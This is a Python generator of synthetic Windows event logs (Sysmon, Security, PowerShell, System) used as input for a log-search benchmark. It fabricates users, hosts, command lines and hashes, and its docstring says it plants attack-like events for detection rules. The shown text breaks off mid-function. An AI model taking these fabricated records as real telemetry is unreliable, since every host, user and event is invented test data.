#!/usr/bin/env python3
"""Synthetic Splunk XmlWinEventLog data for the spelunk benchmark (docs/benchmark.md).

    python3 scripts/gen_events.py --size-mib 1024 --out target/bench/events-1024.log [--seed 1]
    python3 scripts/gen_events.py --size-mib 256 --out target/bench/events-256.json --json
    python3 scripts/gen_events.py --measure ../shared/attack_data ../shared/attack_data_history

Writes N MiB of one-<Event>-per-line records (single-quoted attributes, CRLF, UTF-8) in the
shape of the real attack_data files (see examples/sysmon_network.log): Sysmon, Windows Security,
PowerShell 4104 and System events mixed as measured from the real data (--measure prints
that mix; MIX below is the table used). Times increase; hosts, users, images, command lines,
GUIDs, hashes and private/public IPs vary. Attack events are planted at a fixed rate so the
detections return rows (PLANTS below): regasm/regsvcs network connections to public IPs
(content/detections/endpoint/detect_regasm_with_network_connection.yml) and command lines
that ESCU Endpoint.Processes detections fire on.

With --json, the same events are written as JSON lines instead, one flat object each (System
fields and EventData by name, `TimeCreated` holding the time), to N MiB of JSON: the input of
the JSON reader's benchmark (docs/benchmark.md, "Eighteenth round").

Standard library only, deterministic for a given --seed and --size-mib (the output for a
smaller size is a prefix of the output for a larger one), no network.
"""
import argparse
import base64
import collections
import hashlib
import json
import os
import random
import re
import sys
import time

NS = "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'>"
SYSMON_PROV = "<Provider Name='Microsoft-Windows-Sysmon' Guid='{5770385f-c22a-43e0-bf4c-06f5698ffbd9}'/>"
SEC_PROV = "<Provider Name='Microsoft-Windows-Security-Auditing' Guid='{54849625-5478-4994-A5BA-3E3B0328C30D}'/>"
PS_PROV = "<Provider Name='Microsoft-Windows-PowerShell' Guid='{a0c1853b-5c40-4b15-8766-3cf1c58f985a}'/>"
SCM_PROV = ("<Provider Name='Service Control Manager' Guid='{555908d1-a6d7-4695-8e1e-26931d2012f4}' "
            "EventSourceName='Service Control Manager'/>")
SYSMON_CH = "Microsoft-Windows-Sysmon/Operational"

# (channel, EventID, relative weight). Measured mix of the 413 distinct XmlWinEventLog events in
# ../shared/attack_data + attack_data_history (see docs/benchmark.md), with the EventIDs the real
# mix lacks or under-represents (Sysmon 3/5/7/23, Security 4624/4625/4634/4672/4663/4769/4648,
# System 7045/7036) given small weights taken from the larger NXLog-JSON/classic-text files.
MIX = [
    ("sysmon", 1, 30.0), ("sysmon", 3, 5.0), ("sysmon", 5, 1.0), ("sysmon", 7, 2.0),
    ("sysmon", 10, 4.0), ("sysmon", 11, 6.5), ("sysmon", 12, 2.0), ("sysmon", 13, 5.0),
    ("sysmon", 22, 3.0), ("sysmon", 23, 0.5),
    ("security", 4688, 12.0), ("security", 4624, 3.0), ("security", 4625, 1.0),
    ("security", 4634, 1.5), ("security", 4672, 2.0), ("security", 4663, 2.0),
    ("security", 4662, 3.0), ("security", 4738, 2.5), ("security", 4768, 1.0),
    ("security", 4769, 1.5), ("security", 4648, 0.5), ("security", 4886, 1.0),
    ("security", 4887, 1.0),
    ("powershell", 4104, 6.5),
    ("system", 7036, 1.0), ("system", 7045, 0.5),
]
PLANT_EVERY = 1000  # one planted attack event per this many events (0.1 %)

FIRST = ["james", "mary", "robert", "patricia", "john", "jennifer", "michael", "linda", "david",
         "elizabeth", "william", "barbara", "richard", "susan", "joseph", "jessica", "thomas",
         "sarah", "charles", "karen", "chris", "lisa", "daniel", "nancy", "matthew", "betty",
         "anthony", "sandra", "mark", "ashley", "donald", "kimberly", "steven", "emily", "paul",
         "donna", "andrew", "michelle", "joshua", "carol", "kenneth", "amanda", "kevin", "melissa"]
LAST = ["smith", "johnson", "williams", "brown", "jones", "garcia", "miller", "davis", "rodriguez",
        "martinez", "hernandez", "lopez", "gonzalez", "wilson", "anderson", "thomas", "taylor",
        "moore", "jackson", "martin", "lee", "perez", "thompson", "white", "harris", "sanchez",
        "clark", "ramirez", "lewis", "robinson", "walker", "young", "allen", "king", "wright"]

PUBLIC_NETS = ["13.107.42.", "13.107.6.", "20.42.73.", "20.190.151.", "40.126.31.", "52.96.166.",
               "52.109.12.", "104.16.85.", "104.18.32.", "142.250.185.", "142.251.36.",
               "151.101.1.", "151.101.65.", "172.217.16.", "184.25.56.", "23.215.0.",
               "35.186.224.", "34.107.221.", "93.184.216.", "17.253.144.", "8.8.8.", "1.1.1."]
DOMAINS = ["login.microsoftonline.com", "outlook.office365.com", "www.google.com", "settings-win.data.microsoft.com",
           "v10.events.data.microsoft.com", "ctldl.windowsupdate.com", "github.com", "slack.com",
           "teams.microsoft.com", "clients2.google.com", "update.googleapis.com", "zoom.us",
           "api.github.com", "cdn.jsdelivr.net", "dc01.acme.local", "wpad.acme.local",
           "fileserver.acme.local", "_ldap._tcp.dc._msdcs.acme.local", "ocsp.digicert.com",
           "www.bing.com", "edge.microsoft.com", "fonts.gstatic.com", "s3.amazonaws.com"]

# image, original file name, description, parents, command line templates ({u}=user, {n}=number,
# {h}=host, {f}=file), weight
SYS32 = r"C:\Windows\System32"
PROCS = [
    (SYS32 + r"\svchost.exe", "svchost.exe", "Host Process for Windows Services", ["services.exe"],
     [r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule",
      r"C:\Windows\system32\svchost.exe -k LocalServiceNetworkRestricted -p -s EventLog",
      r"C:\Windows\System32\svchost.exe -k wsappx -p -s AppXSvc",
      r"C:\Windows\system32\svchost.exe -k UnistackSvcGroup -s CDPUserSvc_{n:x}"], 14),
    (r"C:\Program Files\Google\Chrome\Application\chrome.exe", "chrome.exe", "Google Chrome",
     ["explorer.exe", "chrome.exe"],
     ['"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --lang=en-US '
      '--renderer-client-id={n} --time-ticks-at-unix-epoch=-1709{n}00000 --launch-time-ticks={n}1234 '
      '--mojo-platform-channel-handle=4{n} --field-trial-handle=1840,i,{n}0931,{n}1771,262144 /prefetch:1',
      '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=utility '
      '--utility-sub-type=network.mojom.NetworkService --lang=en-US --service-sandbox-type=none '
      '--mojo-platform-channel-handle=2{n} --field-trial-handle=1840,i,{n}0931 /prefetch:8'], 10),
    (SYS32 + r"\cmd.exe", "Cmd.Exe", "Windows Command Processor", ["explorer.exe", "svchost.exe", "powershell.exe"],
     [r'"C:\Windows\system32\cmd.exe" /c "C:\Scripts\backup_{n}.bat"',
      r"C:\Windows\system32\cmd.exe /c ipconfig /all", r"cmd.exe /c echo %PATH%",
      r'C:\Windows\system32\cmd.exe /d /c "C:\Program Files\nodejs\npm.cmd" run build'], 5),
    (SYS32 + r"\WindowsPowerShell\v1.0\powershell.exe", "PowerShell.EXE", "Windows PowerShell",
     ["explorer.exe", "cmd.exe", "svchost.exe"],
     [r'"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -NoProfile -ExecutionPolicy Bypass -File C:\ProgramData\Scripts\inventory.ps1',
      r'powershell.exe -Command "Get-Service | Where-Object {{$_.Status -eq ''Running''}}"',
      r'"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"'], 4),
    (SYS32 + r"\conhost.exe", "CONHOST.EXE", "Console Window Host", ["cmd.exe", "powershell.exe"],
     [r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1"], 5),
    (r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE", "Outlook.exe", "Microsoft Outlook",
     ["explorer.exe"], ['"C:\\Program Files\\Microsoft Office\\Root\\Office16\\OUTLOOK.EXE" '], 3),
    (r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE", "WinWord.exe", "Microsoft Word",
     ["explorer.exe", "OUTLOOK.EXE"],
     ['"C:\\Program Files\\Microsoft Office\\Root\\Office16\\WINWORD.EXE" /n "C:\\Users\\{u}\\Documents\\report_{n}.docx" /o ""'], 2),
    (SYS32 + r"\taskhostw.exe", "taskhostw.exe", "Host Process for Windows Tasks", ["svchost.exe"],
     ["taskhostw.exe KEYROAMING", "taskhostw.exe Install $(Arg0)"], 3),
    (SYS32 + r"\wbem\WmiPrvSE.exe", "Wmiprvse.exe", "WMI Provider Host", ["svchost.exe"],
     [r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding", r"C:\Windows\system32\wbem\wmiprvse.exe -Embedding"], 3),
    (SYS32 + r"\SearchProtocolHost.exe", "searchprotocolhost.exe", "Microsoft Windows Search Protocol Host",
     ["SearchIndexer.exe"],
     [r'"C:\Windows\system32\SearchProtocolHost.exe" Global\UsGthrFltPipeMssGthrPipe{n}_ Global\UsGthrCtrlFltPipeMssGthrPipe{n} 1 -2147483646 "Software\Microsoft\Windows Search" "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)" "C:\ProgramData\Microsoft\Search\Data\Temp\usgthrsvc" "DownLevelDaemon"'], 3),
    (r"C:\Program Files\SplunkUniversalForwarder\bin\splunkd.exe", "splunkd.exe", "splunk service", ["services.exe"],
     [r'"C:\Program Files\SplunkUniversalForwarder\bin\splunkd.exe" service'], 2),
    (r"C:\Program Files\SplunkUniversalForwarder\bin\splunk-winevtlog.exe", "splunk-winevtlog.exe",
     "Windows Event Log monitor", ["splunkd.exe"],
     [r'"C:\Program Files\SplunkUniversalForwarder\bin\splunk-winevtlog.exe"'], 2),
    (r"C:\Program Files\Microsoft OneDrive\OneDrive.exe", "OneDrive.exe", "Microsoft OneDrive", ["explorer.exe"],
     ['"C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe" /background'], 2),
    (SYS32 + r"\rundll32.exe", "RUNDLL32.EXE", "Windows host process (Rundll32)", ["svchost.exe", "explorer.exe"],
     [r"C:\Windows\system32\rundll32.exe C:\Windows\system32\shell32.dll,SHCreateLocalServerRunDll {{9aa46009-3ce0-458a-a354-715610a075e6}} -Embedding",
      r'"C:\Windows\system32\rundll32.exe" C:\Windows\system32\PcaSvc.dll,PcaPatchSdbTask'], 2),
    (SYS32 + r"\msiexec.exe", "msiexec.exe", "Windows installer", ["services.exe"],
     [r"C:\Windows\system32\msiexec.exe /V", r"C:\Windows\System32\MsiExec.exe -Embedding {n:X}4E2B1C C"], 1),
    (SYS32 + r"\reg.exe", "reg.exe", "Registry Console Tool", ["cmd.exe"],
     [r'reg query "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion" /v ProductName'], 1),
    (SYS32 + r"\net.exe", "net.exe", "Net Command", ["cmd.exe"], ["net use", "net time \\\\dc01.acme.local"], 1),
    (SYS32 + r"\tasklist.exe", "tasklist.exe", "Lists the current running tasks", ["cmd.exe"], ["tasklist /v"], 1),
    (SYS32 + r"\notepad.exe", "NOTEPAD.EXE", "Notepad", ["explorer.exe"],
     [r'"C:\Windows\system32\NOTEPAD.EXE" C:\Users\{u}\Desktop\notes_{n}.txt'], 1),
    (r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\ngen.exe", "ngen.exe",
     "Microsoft Common Language Runtime native compiler", ["mscorsvw.exe", "svchost.exe"],
     [r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\ngen.exe install System.Web.{n} /NoDependencies /queue:1"], 1),
    (r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe", "msedge.exe", "Microsoft Edge",
     ["explorer.exe", "msedge.exe"],
     ['"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe" --type=renderer --instant-process '
      '--lang=en-US --js-flags=--ms-user-locale= --device-scale-factor=1 --num-raster-threads=2 '
      '--renderer-client-id={n} --mojo-platform-channel-handle={n}0 /prefetch:1'], 4),
]
PARENT_PATHS = {"services.exe": SYS32 + r"\services.exe", "explorer.exe": r"C:\Windows\explorer.exe",
                "svchost.exe": SYS32 + r"\svchost.exe", "cmd.exe": SYS32 + r"\cmd.exe",
                "powershell.exe": SYS32 + r"\WindowsPowerShell\v1.0\powershell.exe",
                "chrome.exe": r"C:\Program Files\Google\Chrome\Application\chrome.exe",
                "msedge.exe": r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe",
                "OUTLOOK.EXE": r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE",
                "SearchIndexer.exe": SYS32 + r"\SearchIndexer.exe",
                "splunkd.exe": r"C:\Program Files\SplunkUniversalForwarder\bin\splunkd.exe",
                "mscorsvw.exe": r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\mscorsvw.exe"}

DLLS = [r"C:\Windows\System32\ntdll.dll", r"C:\Windows\System32\kernel32.dll", r"C:\Windows\System32\KernelBase.dll",
        r"C:\Windows\System32\advapi32.dll", r"C:\Windows\System32\crypt32.dll", r"C:\Windows\System32\wininet.dll",
        r"C:\Windows\System32\ws2_32.dll", r"C:\Windows\System32\amsi.dll", r"C:\Windows\System32\dbghelp.dll",
        r"C:\Windows\System32\samlib.dll", r"C:\Windows\System32\vaultcli.dll", r"C:\Windows\System32\wbem\fastprox.dll"]
REGKEYS = [r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\OneDrive",
           r"HKU\S-1-5-21-{sid}\Software\Microsoft\Windows\CurrentVersion\Explorer\RecentDocs\.docx\{n}",
           r"HKLM\System\CurrentControlSet\Services\bam\State\UserSettings\S-1-5-21-{sid}\\Device\HarddiskVolume3\Windows\System32\cmd.exe",
           r"HKLM\SOFTWARE\Microsoft\Windows Defender\Features\TamperProtection",
           r"HKLM\System\CurrentControlSet\Services\SharedAccess\Parameters\FirewallPolicy\FirewallRules\{{{g}}}",
           r"HKU\S-1-5-21-{sid}\Software\Microsoft\Office\16.0\Common\Roaming\Identities\{n}",
           r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Schedule\TaskCache\Tree\Microsoft\Windows\UpdateOrchestrator\{n}"]
TARGET_FILES = [r"C:\Users\{u}\AppData\Local\Temp\{g}.tmp", r"C:\Users\{u}\Downloads\invoice_{n}.pdf",
                r"C:\Windows\Prefetch\CHROME.EXE-{n:X}.pf", r"C:\Users\{u}\AppData\Local\Google\Chrome\User Data\Default\Cache\Cache_Data\f_{n:06x}",
                r"C:\ProgramData\Microsoft\Windows Defender\Scans\History\Service\DetectionHistory\{n}",
                r"C:\Windows\SoftwareDistribution\Download\{g}\update.cab", r"C:\Users\{u}\Documents\report_{n}.xlsx"]
SCRIPTS = ["Get-ChildItem -Path C:\\Users\\{u}\\Documents -Recurse -Filter *.log | Remove-Item -Force",
           "Import-Module ActiveDirectory; Get-ADUser -Filter * -Properties LastLogonDate | Select-Object Name,LastLogonDate",
           "$ErrorActionPreference = 'Stop'\r\n$svc = Get-Service -Name Spooler\r\nif ($svc.Status -ne 'Running') {{ Start-Service Spooler }}",
           "prompt", "{{ Set-StrictMode -Version 1; $_.PSMessageDetails }}",
           "function Get-Inventory {{ param([string]$ComputerName = $env:COMPUTERNAME) Get-CimInstance -ClassName Win32_OperatingSystem -ComputerName $ComputerName | Select-Object Caption,Version,LastBootUpTime }}",
           "Get-WinEvent -LogName Security -MaxEvents {n} | Where-Object {{ $_.Id -eq 4625 }}"]


class Gen:
    def __init__(self, seed):
        r = self.r = random.Random(seed)
        self.domain_sid = "S-1-5-21-%d-%d-%d" % (r.randrange(10**9, 4 * 10**9), r.randrange(10**9, 4 * 10**9),
                                                 r.randrange(10**8, 10**9))
        users = []
        for i in range(240):
            name = "%s.%s" % (r.choice(FIRST), r.choice(LAST))
            users.append((name, "%s-%d" % (self.domain_sid, 1100 + i)))
        users += [("svc_backup", self.domain_sid + "-1501"), ("svc_sql", self.domain_sid + "-1502"),
                  ("Administrator", self.domain_sid + "-500")]
        self.users = users
        hosts = []
        for i in range(150):
            kind = "WS" if i < 130 else "SRV"
            hosts.append(("WIN-%s%03d.acme.local" % (kind, i + 1), "10.1.%d.%d" % (20 + i // 200, 10 + i % 200),
                          "%08x" % r.getrandbits(32), users[r.randrange(len(users))]))
        hosts += [("DC01.acme.local", "10.1.1.10", "%08x" % r.getrandbits(32), users[-1]),
                  ("DC02.acme.local", "10.1.1.11", "%08x" % r.getrandbits(32), users[-1])]
        self.hosts = hosts
        self.dcs = hosts[-2:]
        self.rec = collections.Counter()
        self.hashes = {}
        for p in PROCS:
            self.hashes[p[0]] = self.hash_for(p[0])
        self.proc_pick = [p for p in PROCS for _ in range(p[5])]
        self.mix = [(ch, eid) for ch, eid, w in MIX]
        self.cum = []
        acc = 0.0
        for _, _, w in MIX:
            acc += w
            self.cum.append(acc)
        self.t_ms = 1709251200000  # 2024-03-01T00:00:00Z
        self._sec = None
        self._prefix = ("", "")
        self.plant_i = 0
        self.n = 0
        self.planted = collections.Counter()

    def hash_for(self, key):
        m = hashlib.md5(key.encode()).hexdigest().upper()
        s = hashlib.sha256(key.encode()).hexdigest().upper()
        i = hashlib.md5(("imp" + key).encode()).hexdigest().upper()
        return "MD5=%s,SHA256=%s,IMPHASH=%s" % (m, s, i)

    # ---- small helpers -------------------------------------------------------------------------
    def times(self):
        self.t_ms += self.r.randrange(1, 40)
        sec, ms = divmod(self.t_ms, 1000)
        if sec != self._sec:
            self._sec = sec
            tm = time.gmtime(sec)
            self._prefix = (time.strftime("%Y-%m-%dT%H:%M:%S", tm), time.strftime("%Y-%m-%d %H:%M:%S", tm))
        p, q = self._prefix
        sub = self.r.randrange(10000)
        return "%s.%03d%04dZ" % (p, ms, sub), "%s.%03d" % (q, max(ms - 1, 0))

    def guid(self, host):
        b = self.r.getrandbits(96)
        return "{%s-%04x-%04x-%04x-%012x}" % (host[2], b & 0xffff, (b >> 16) & 0xffff, (b >> 32) & 0xffff, b >> 48)

    def rawguid(self):
        b = self.r.getrandbits(128)
        h = "%032X" % b
        return "%s-%s-%s-%s-%s" % (h[:8], h[8:12], h[12:16], h[16:20], h[20:])

    def public_ip(self):
        return self.r.choice(PUBLIC_NETS) + str(self.r.randrange(1, 255))

    def private_ip(self):
        r = self.r.random()
        if r < 0.7:
            return "10.1.%d.%d" % (self.r.randrange(0, 30), self.r.randrange(1, 255))
        if r < 0.85:
            return "172.%d.%d.%d" % (self.r.randrange(16, 32), self.r.randrange(0, 256), self.r.randrange(1, 255))
        return "192.168.%d.%d" % (self.r.randrange(0, 10), self.r.randrange(1, 255))

    def fill(self, tmpl, user):
        return tmpl.format(u=user[0], n=self.r.randrange(1, 99999), g=self.rawguid(), sid=user[1][9:])

    # ---- System headers ------------------------------------------------------------------------
    def sys_sysmon(self, host, eid, version, systime):
        self.rec[host[0], 1] += 1
        return ("<System>%s<EventID>%d</EventID><Version>%d</Version><Level>4</Level><Task>%d</Task>"
                "<Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime='%s'/>"
                "<EventRecordID>%d</EventRecordID><Correlation/><Execution ProcessID='%d' ThreadID='%d'/>"
                "<Channel>%s</Channel><Computer>%s</Computer><Security UserID='S-1-5-18'/></System>"
                % (SYSMON_PROV, eid, version, eid, systime, self.rec[host[0], 1], 2800 + int(host[2][:2], 16),
                   self.r.randrange(1000, 9000), SYSMON_CH, host[0]))

    def sys_security(self, host, eid, task, systime, failure=False, version=0):
        self.rec[host[0], 2] += 1
        return ("<System>%s<EventID>%d</EventID><Version>%d</Version><Level>0</Level><Task>%d</Task>"
                "<Opcode>0</Opcode><Keywords>%s</Keywords><TimeCreated SystemTime='%s'/>"
                "<EventRecordID>%d</EventRecordID><Correlation ActivityID='{%s}'/><Execution ProcessID='%d' ThreadID='%d'/>"
                "<Channel>Security</Channel><Computer>%s</Computer><Security/></System>"
                % (SEC_PROV, eid, version, task, "0x8010000000000000" if failure else "0x8020000000000000", systime,
                   self.rec[host[0], 2], self.rawguid(), 600 + int(host[2][:2], 16), self.r.randrange(1000, 9000), host[0]))

    @staticmethod
    def data(pairs):
        return "".join(["<Data Name='%s'>%s</Data>" % kv for kv in pairs])

    # ---- events ----------------------------------------------------------------------------------
    def pick_proc(self):
        return self.r.choice(self.proc_pick)

    def user_of(self, host):
        r = self.r.random()
        if r < 0.55:
            u = host[3]
            return "ACME\\" + u[0], u
        if r < 0.85:
            return "NT AUTHORITY\\SYSTEM", ("SYSTEM", "S-1-5-18")
        if r < 0.93:
            return "NT AUTHORITY\\NETWORK SERVICE", ("NETWORK SERVICE", "S-1-5-20")
        u = self.r.choice(self.users)
        return "ACME\\" + u[0], u

    def sysmon_1(self, host, st, ut, proc=None, cmd=None, parent=None, parent_cmd=None, user=None):
        r = self.r
        p = proc or self.pick_proc()
        uname, u = user or self.user_of(host)
        if cmd is None:
            cmd = self.fill(r.choice(p[4]), u)
        par = parent or r.choice(p[3])
        ppath = PARENT_PATHS.get(par, SYS32 + "\\" + par)
        pcmd = parent_cmd or ('"%s"' % ppath if par != "services.exe" else r"C:\Windows\system32\services.exe")
        return self.sys_sysmon(host, 1, 5, st) + "<EventData>" + self.data((
            ("RuleName", "-"), ("UtcTime", ut), ("ProcessGuid", self.guid(host)), ("ProcessId", r.randrange(100, 20000)),
            ("Image", p[0]), ("FileVersion", "10.0.19041.%d (WinBuild.160101.0800)" % (r.randrange(1, 4000))),
            ("Description", p[2]), ("Product", "Microsoft® Windows® Operating System"),
            ("Company", "Microsoft Corporation"), ("OriginalFileName", p[1]), ("CommandLine", cmd),
            ("CurrentDirectory", r"C:\Windows\system32\\" if "SYSTEM" in uname else "C:\\Users\\%s\\" % u[0]),
            ("User", uname), ("LogonGuid", self.guid(host)), ("LogonId", "0x%x" % r.getrandbits(24)),
            ("TerminalSessionId", r.randrange(0, 3)), ("IntegrityLevel", r.choice(("Medium", "High", "System"))),
            ("Hashes", self.hashes.get(p[0]) or self.hash_for(p[0])), ("ParentProcessGuid", self.guid(host)),
            ("ParentProcessId", r.randrange(100, 20000)), ("ParentImage", ppath), ("ParentCommandLine", pcmd),
            ("ParentUser", uname))) + "</EventData>"

    def sysmon_3(self, host, st, ut, image=None, dest_ip=None, user=None, port=None):
        r = self.r
        p = image or self.pick_proc()[0]
        uname = user or self.user_of(host)[0]
        if dest_ip is None:
            dest_ip = self.public_ip() if r.random() < 0.6 else self.private_ip()
        port = port or r.choice((443, 443, 443, 80, 53, 445, 135, 389, 88, 8080, 3389))
        pname = {443: "https", 80: "http", 53: "domain", 445: "microsoft-ds", 135: "epmap", 389: "ldap",
                 88: "kerberos", 8080: "http-alt", 3389: "ms-wbt-server"}.get(port, "-")
        dhost = r.choice(DOMAINS) if r.random() < 0.5 else "-"
        return self.sys_sysmon(host, 3, 5, st) + "<EventData>" + self.data((
            ("RuleName", "-"), ("UtcTime", ut), ("ProcessGuid", self.guid(host)), ("ProcessId", r.randrange(100, 20000)),
            ("Image", p), ("User", uname), ("Protocol", "udp" if port == 53 else "tcp"), ("Initiated", "true"),
            ("SourceIsIpv6", "false"), ("SourceIp", host[1]), ("SourceHostname", host[0]),
            ("SourcePort", r.randrange(49152, 65535)), ("SourcePortName", "-"), ("DestinationIsIpv6", "false"),
            ("DestinationIp", dest_ip), ("DestinationHostname", dhost), ("DestinationPort", port),
            ("DestinationPortName", pname))) + "</EventData>"

    def sysmon_5(self, host, st, ut):
        p = self.pick_proc()
        return self.sys_sysmon(host, 5, 3, st) + "<EventData>" + self.data((
            ("RuleName", "-"), ("UtcTime", ut), ("ProcessGuid", self.guid(host)), ("ProcessId", self.r.randrange(100, 20000)),
            ("Image", p[0]), ("User", self.user_of(host)[0]))) + "</EventData>"

    def sysmon_7(self, host, st, ut):
        r = self.r
        p = self.pick_proc()
        dll = r.choice(DLLS)
        return self.sys_sysmon(host, 7, 3, st) + "<EventData>" + self.data((
            ("RuleName", "-"), ("UtcTime", ut), ("ProcessGuid", self.guid(host)), ("ProcessId", r.randrange(100, 20000)),
            ("Image", p[0]), ("ImageLoaded", dll), ("FileVersion", "10.0.19041.%d (WinBuild.160101.0800)" % r.randrange(1, 4000)),
            ("Description", dll.rsplit("\\", 1)[1]), ("Product", "Microsoft® Windows® Operating System"),
            ("Company", "Microsoft Corporation"), ("OriginalFileName", dll.rsplit("\\", 1)[1]),
            ("Hashes", self.hash_for(dll)), ("Signed", "true"), ("Signature", "Microsoft Windows"),
            ("SignatureStatus", "Valid"), ("User", self.user_of(host)[0]))) + "</EventData>"

    def sysmon_10(self, host, st, ut):
        r = self.r
        src = self.pick_proc()[0]
        tgt = r.choice((SYS32 + r"\lsass.exe", SYS32 + r"\svchost.exe", r"C:\Program Files\Google\Chrome\Application\chrome.exe",
                        SYS32 + r"\csrss.exe"))
        trace = "|".join("%s+%x" % (r.choice(DLLS), r.getrandbits(20)) for _ in range(r.randrange(3, 12)))
        return self.sys_sysmon(host, 10, 3, st) + "<EventData>" + self.data((
            ("RuleName", "-"), ("UtcTime", ut), ("SourceProcessGUID", self.guid(host)),
            ("SourceProcessId", r.randrange(100, 20000)), ("SourceThreadId", r.randrange(100, 20000)),
            ("SourceImage", src), ("TargetProcessGUID", self.guid(host)), ("TargetProcessId", r.randrange(100, 20000)),
            ("TargetImage", tgt), ("GrantedAccess", r.choice(("0x1000", "0x1410", "0x1fffff", "0x101000", "0x40"))),
            ("CallTrace", trace), ("SourceUser", self.user_of(host)[0]), ("TargetUser", "NT AUTHORITY\\SYSTEM"))) + "</EventData>"

    def sysmon_11(self, host, st, ut, eid=11):
        r = self.r
        p = self.pick_proc()
        uname, u = self.user_of(host)
        f = self.fill(r.choice(TARGET_FILES), host[3])
        pairs = [("RuleName", "-"), ("UtcTime", ut), ("ProcessGuid", self.guid(host)), ("ProcessId", r.randrange(100, 20000)),
                 ("Image", p[0]), ("TargetFilename", f), ("CreationUtcTime", ut), ("User", uname)]
        if eid == 23:
            pairs[6:] = [("User", uname), ("Hashes", self.hash_for(f)), ("IsExecutable", "false"), ("Archived", "true")]
        return self.sys_sysmon(host, eid, 5 if eid == 23 else 2, st) + "<EventData>" + self.data(pairs) + "</EventData>"

    def sysmon_12(self, host, st, ut, eid=12):
        r = self.r
        p = self.pick_proc()
        uname, u = self.user_of(host)
        key = self.fill(r.choice(REGKEYS), host[3])
        pairs = [("RuleName", r.choice(("-", "T1060,RunKey", "T1031,T1050"))),
                 ("EventType", "SetValue" if eid == 13 else r.choice(("CreateKey", "DeleteValue"))),
                 ("UtcTime", ut), ("ProcessGuid", self.guid(host)), ("ProcessId", r.randrange(100, 20000)),
                 ("Image", p[0]), ("TargetObject", key)]
        if eid == 13:
            pairs.append(("Details", r.choice(("DWORD (0x00000001)", "DWORD (0x00000000)", "Binary Data",
                                               '"C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe" /background',
                                               "QWORD (0x01da6b2c-0x%08x)" % r.getrandbits(32)))))
        pairs.append(("User", uname))
        return self.sys_sysmon(host, eid, 2, st) + "<EventData>" + self.data(pairs) + "</EventData>"

    def sysmon_22(self, host, st, ut):
        r = self.r
        q = r.choice(DOMAINS)
        res = ("type:  5 %s;::ffff:%s;" % (q, self.public_ip())) if r.random() < 0.8 else "-"
        return self.sys_sysmon(host, 22, 5, st) + "<EventData>" + self.data((
            ("RuleName", "-"), ("UtcTime", ut), ("ProcessGuid", self.guid(host)), ("ProcessId", r.randrange(100, 20000)),
            ("QueryName", q), ("QueryStatus", "0" if res != "-" else "9003"), ("QueryResults", res),
            ("Image", self.pick_proc()[0]), ("User", self.user_of(host)[0]))) + "</EventData>"

    def sec_4688(self, host, st, ut, proc=None, cmd=None, parent=None):
        r = self.r
        p = proc or self.pick_proc()
        uname, u = self.user_of(host)
        cmd = cmd if cmd is not None else self.fill(r.choice(p[4]), u)
        par = parent or r.choice(p[3])
        return self.sys_security(host, 4688, 13312, st, version=2) + "<EventData>" + self.data((
            ("SubjectUserSid", u[1]), ("SubjectUserName", u[0]), ("SubjectDomainName", "ACME"),
            ("SubjectLogonId", "0x%x" % r.getrandbits(24)), ("NewProcessId", "0x%x" % r.randrange(100, 20000)),
            ("NewProcessName", p[0]), ("TokenElevationType", r.choice(("%%1936", "%%1937", "%%1938"))),
            ("ProcessId", "0x%x" % r.randrange(100, 20000)), ("CommandLine", cmd), ("TargetUserSid", "S-1-0-0"),
            ("TargetUserName", "-"), ("TargetDomainName", "-"), ("TargetLogonId", "0x0"),
            ("ParentProcessName", PARENT_PATHS.get(par, SYS32 + "\\" + par)),
            ("MandatoryLabel", r.choice(("S-1-16-8192", "S-1-16-12288", "S-1-16-16384"))))) + "</EventData>"

    def sec_logon(self, host, st, ut, eid):
        r = self.r
        u = r.choice(self.users)
        ltype = r.choice((2, 3, 3, 3, 5, 7, 10, 11))
        src = r.choice(self.hosts)
        if eid == 4634:
            return self.sys_security(host, 4634, 12545, st) + "<EventData>" + self.data((
                ("TargetUserSid", u[1]), ("TargetUserName", u[0]), ("TargetDomainName", "ACME"),
                ("TargetLogonId", "0x%x" % r.getrandbits(28)), ("LogonType", ltype))) + "</EventData>"
        if eid == 4672:
            return self.sys_security(host, 4672, 12548, st) + "<EventData>" + self.data((
                ("SubjectUserSid", u[1]), ("SubjectUserName", u[0]), ("SubjectDomainName", "ACME"),
                ("SubjectLogonId", "0x%x" % r.getrandbits(28)),
                ("PrivilegeList", "SeSecurityPrivilege\r\n\t\t\tSeBackupPrivilege\r\n\t\t\tSeRestorePrivilege\r\n\t\t\t"
                 "SeTakeOwnershipPrivilege\r\n\t\t\tSeDebugPrivilege\r\n\t\t\tSeSystemEnvironmentPrivilege\r\n\t\t\t"
                 "SeLoadDriverPrivilege\r\n\t\t\tSeImpersonatePrivilege\r\n\t\t\tSeDelegateSessionUserImpersonatePrivilege"
                 .replace("\r\n\t\t\t", " ")))) + "</EventData>"
        if eid == 4648:
            return self.sys_security(host, 4648, 12544, st) + "<EventData>" + self.data((
                ("SubjectUserSid", u[1]), ("SubjectUserName", u[0]), ("SubjectDomainName", "ACME"),
                ("SubjectLogonId", "0x%x" % r.getrandbits(28)), ("LogonGuid", "{00000000-0000-0000-0000-000000000000}"),
